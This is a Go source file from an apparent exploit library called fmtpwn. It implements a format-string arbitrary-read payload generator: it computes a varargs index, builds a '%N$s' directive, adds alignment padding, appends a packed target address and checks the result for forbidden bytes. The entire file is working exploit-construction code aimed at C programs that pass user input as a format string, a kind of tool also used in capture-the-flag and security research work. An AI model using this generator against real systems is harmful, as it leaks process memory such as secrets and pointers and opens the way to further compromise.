package fmtpwn

import (
	"strconv"

	"github.com/xyproto/fmtpwn/arch"
)

// ReadPayload, when consumed by the victim as a format string, prints the
// NUL-terminated C string at Address via %N$s for a computed varargs index
// N.
type ReadPayload struct {
	Address arch.Address
}

// directiveBoundDigits is the number of decimal digits assumed for the
// varargs index when choosing how much room the "%N$s" directive needs.
// Offsets beyond 99999 are outside any realistic buffer layout; exceeding
// it surfaces as an InternalInvariant error rather than silently producing
// misaligned output.
const directiveBoundDigits = 5

// Generate returns a payload that, read as a format string by the victim,
// emits the NUL-terminated string at p.Address.
func (p ReadPayload) Generate(settings *PayloadSettings, startLen int) ([]byte, error) {
	w := settings.Arch.WordBytes()
	o0 := settings.Offset

	// "%" + up-to-5-digit index + "$s"
	lBound := 1 + directiveBoundDigits + 2

	rem := startLen - settings.Padding
	if rem < 0 {
		rem = 0
	}
	k := ceilDiv(rem+lBound, w)
	o := o0 + k

	directive := "%" + strconv.Itoa(o) + "$s"
	if len(directive) > lBound {
		return nil, internalInvariantErr("read payload: varargs index exceeded the assumed digit bound")
	}

	padLen := settings.Padding + w*k - startLen - len(directive)
	if padLen < 0 {
		return nil, internalInvariantErr("read payload: computed negative padding")
	}

	addrBytes, err := settings.Arch.PackAddress(p.Address)
	if err != nil {
		return nil, err
	}

	out := make([]byte, 0, len(directive)+padLen+len(addrBytes))
	out = append(out, directive...)
	for i := 0; i < padLen; i++ {
		out = append(out, settings.PaddingByte)
	}
	out = append(out, addrBytes...)

	if b, bad := scanForbidden(out, settings.ForbiddenBytes); bad {
		return nil, forbiddenByteErr(b, "read payload")
	}
	return out, nil
}

func ceilDiv(a, b int) int {
	if b <= 0 {
		return 0
	}
	if a <= 0 {
		return 0
	}
	return (a + b - 1) / b
}
